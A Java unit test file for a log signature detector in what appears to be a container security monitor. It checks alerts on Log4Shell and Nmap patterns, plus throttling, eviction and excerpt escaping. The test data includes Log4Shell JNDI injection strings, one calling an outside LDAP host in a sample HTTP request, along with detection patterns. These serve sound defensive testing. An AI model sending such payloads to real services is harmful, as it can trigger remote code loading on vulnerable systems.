package dev.vigil.detect.logsig;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.alert.Alert;
import dev.vigil.alert.FalcoJson;
import dev.vigil.alert.Priority;
import dev.vigil.common.Metrics;
import dev.vigil.event.ContainerRef;
import dev.vigil.event.EventKind;
import dev.vigil.event.LogLine;
import dev.vigil.event.SensorNotice;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class LogSignatureDetectorTest {

  private static final ContainerRef WEB = new ContainerRef("aaaaaaaaaaaa1111", "web", "nginx", "1.27", "");
  private static final ContainerRef API = new ContainerRef("bbbbbbbbbbbb2222", "api", "shop/api", "", "");

  private static final SignatureSet SET = SignatureSet.of(List.of(
      new Signature("log4shell.jndi", "Log4Shell lookup in container log", Priority.CRITICAL,
          List.of("container", "log", "mitre_initial_access", "T1190"), "a JNDI lookup", true, List.of("${jndi:"),
          "t:1"),
      new Signature("nmap.report", "Port scanner output in container log", Priority.WARNING,
          List.of("container", "log", "mitre_discovery", "T1046"), "", true, List.of("Nmap scan report for"), "t:2")));

  /** The time the fake sensor stamps on lines; tests move it. */
  private Instant now = Instant.parse("2026-11-29T10:00:00Z");
  private final List<Alert> alerts = new ArrayList<>();
  private Metrics metrics;

  @BeforeEach
  void setUp() {
    metrics = Metrics.inMemory();
  }

  private LogSignatureDetector detector(Duration window, int maxTracked) {
    return new LogSignatureDetector(SET, window, maxTracked, metrics);
  }

  private void feed(LogSignatureDetector d, ContainerRef c, String text) {
    d.onEvent(new LogLine(now, c, "docker.logs", LogLine.Stream.STDOUT, text, false, text.length()), alerts::add);
  }

  @Test
  void alertHasTheRuleShapeAndNamesSignatureContainerAndLine() {
    LogSignatureDetector d = detector(Duration.ofMinutes(1), 100);
    assertThat(d.name()).isEqualTo("log_signatures");
    assertThat(d.kinds()).containsExactly(EventKind.LOG_LINE);
    feed(d, WEB, "10.0.0.9 - - \"GET /?x=${jndi:ldap://203.0.113.7/a} HTTP/1.1\" 200");

    assertThat(alerts).hasSize(1);
    Alert a = alerts.get(0);
    assertThat(a.rule()).isEqualTo("Log4Shell lookup in container log");
    assertThat(a.priority()).isEqualTo(Priority.CRITICAL);
    assertThat(a.source()).isEqualTo("log");
    assertThat(a.tags()).containsExactly("container", "log", "mitre_initial_access", "T1190");
    assertThat(a.hostname()).as("stamped at the output stage, not by detectors").isNull();
    assertThat(a.time()).isEqualTo(now);
    assertThat(a.outputFields()).containsEntry("container.id", "aaaaaaaaaaaa").containsEntry("container.name", "web")
        .containsEntry("evt.type", "detector")
        .containsEntry("log.line", "10.0.0.9 - - \"GET /?x=${jndi:ldap://203.0.113.7/a} HTTP/1.1\" 200")
        .containsEntry("log.stream", "stdout").containsEntry("vigil.logsig.id", "log4shell.jndi")
        .containsEntry("vigil.logsig.pattern", "${jndi:").containsEntry("vigil.logsig.suppressed", 0L);
    assertThat(a.output()).isEqualTo("Log4Shell lookup in container log (signature=log4shell.jndi [a JNDI lookup]"
        + " pattern=${jndi: line=10.0.0.9 - - \"GET /?x=${jndi:ldap://203.0.113.7/a} HTTP/1.1\" 200 stream=stdout"
        + " container=web image=nginx:1.27)");
    assertThat(FalcoJson.toJson(a)).contains("\"rule\":\"Log4Shell lookup in container log\"",
        "\"source\":\"log\"", "\"priority\":\"Critical\"");
  }

  @Test
  void twoSignaturesInOneLineAreTwoAlerts() {
    LogSignatureDetector d = detector(Duration.ofMinutes(1), 100);
    feed(d, API, "Nmap scan report for ${jndi:x}");
    assertThat(alerts).extracting(a -> a.outputFields().get("vigil.logsig.id"))
        .containsExactly("nmap.report", "log4shell.jndi");
  }

  @Test
  void repeatsAreThrottledPerContainerAndSignatureAndCountedInTheNextAlert() {
    LogSignatureDetector d = detector(Duration.ofMinutes(1), 100);
    feed(d, WEB, "${jndi:a}");
    for (int i = 0; i < 5; i++) {
      now = now.plusSeconds(10);
      feed(d, WEB, "${jndi:b" + i + "}");
    }
    feed(d, API, "${jndi:c}");           // another container: its own window
    feed(d, WEB, "Nmap scan report for x"); // another signature: its own window
    assertThat(alerts).hasSize(3);
    assertThat(metrics.count("vigil.logsig.throttled", "signature", "log4shell.jndi")).isEqualTo(5);
    assertThat(metrics.count("vigil.logsig.matches", "signature", "log4shell.jndi")).isEqualTo(7);

    now = now.plusSeconds(10); // 60 s after the first alert: the window is over
    feed(d, WEB, "${jndi:d}");
    assertThat(alerts).hasSize(4);
    Alert again = alerts.get(3);
    assertThat(again.outputFields()).containsEntry("vigil.logsig.suppressed", 5L);
    assertThat(again.output()).endsWith(" suppressed=5)");

    now = now.plusSeconds(59);
    feed(d, WEB, "${jndi:e}");
    assertThat(alerts).hasSize(4);
    now = now.minusSeconds(3600); // a line stamped before the last alert (clock stepped back): still throttled
    feed(d, WEB, "${jndi:f}");
    assertThat(alerts).hasSize(4);
  }

  @Test
  void aZeroWindowAlertsOnEveryLine() {
    LogSignatureDetector d = detector(Duration.ZERO, 100);
    for (int i = 0; i < 3; i++) {
      feed(d, WEB, "${jndi:x}");
    }
    assertThat(alerts).hasSize(3);
  }

  @Test
  void throttleStateIsBoundedLeastRecentlyUsedFirst() {
    LogSignatureDetector d = detector(Duration.ofHours(1), 2);
    ContainerRef c1 = new ContainerRef("c1", "c1", "i", "", "");
    ContainerRef c2 = new ContainerRef("c2", "c2", "i", "", "");
    ContainerRef c3 = new ContainerRef("c3", "c3", "i", "", "");
    feed(d, c1, "${jndi:x}");
    feed(d, c2, "${jndi:x}");
    feed(d, c1, "${jndi:x}"); // throttled; c1 is now the most recently used
    feed(d, c3, "${jndi:x}"); // evicts c2
    assertThat(d.tracked()).isEqualTo(2);
    assertThat(metrics.count("vigil.logsig.evicted", "detector", "log_signatures")).isEqualTo(1);
    feed(d, c1, "${jndi:x}"); // still throttled
    feed(d, c2, "${jndi:x}"); // forgotten, so it alerts again
    assertThat(alerts).extracting(a -> a.outputFields().get("container.name"))
        .containsExactly("c1", "c2", "c3", "c2");
  }

  @Test
  void outputShowsAnEscapedExcerptAroundTheMatchOfAHugeLine() {
    LogSignatureDetector d = detector(Duration.ofMinutes(1), 100);
    String line = "x".repeat(5_000_000) + "\u001b[31m日本 Nmap scan report for 10.0.0.1\u202e\r" + "y".repeat(5_000_000);
    feed(d, WEB, line);
    String out = alerts.get(0).output();
    assertThat(out).contains(" line=…" + "x".repeat(LogSignatureDetector.EXCERPT_BEFORE - 8)
        + "\\x1b[31m日本 Nmap scan report for 10.0.0.1\\u202e\\x0d" + "y".repeat(20));
    assertThat(out).doesNotContain("\u001b", "\r", "\u202e");
    assertThat(out.length()).isLessThan(400);
    assertThat(alerts.get(0).outputFields().get("log.line")).isEqualTo(line);
  }

  @Test
  void otherEventsAreIgnored() {
    LogSignatureDetector d = detector(Duration.ofMinutes(1), 100);
    d.onEvent(new SensorNotice(now, ContainerRef.HOST, "kernel.proc", "lost", 1, "${jndi: in a notice"), alerts::add);
    assertThat(alerts).isEmpty();
  }

  @Test
  void excerptOffsetsFollowUtf8ByteOffsets() {
    assertThat(LogSignatureDetector.charIndexOfByte("é日😀x", 0)).isZero();
    assertThat(LogSignatureDetector.charIndexOfByte("é日😀x", 2)).isEqualTo(1);
    assertThat(LogSignatureDetector.charIndexOfByte("é日😀x", 5)).isEqualTo(2);
    assertThat(LogSignatureDetector.charIndexOfByte("é日😀x", 9)).isEqualTo(4);
    assertThat(LogSignatureDetector.charIndexOfByte("\uD800x", 1)).isEqualTo(1);
  }
}
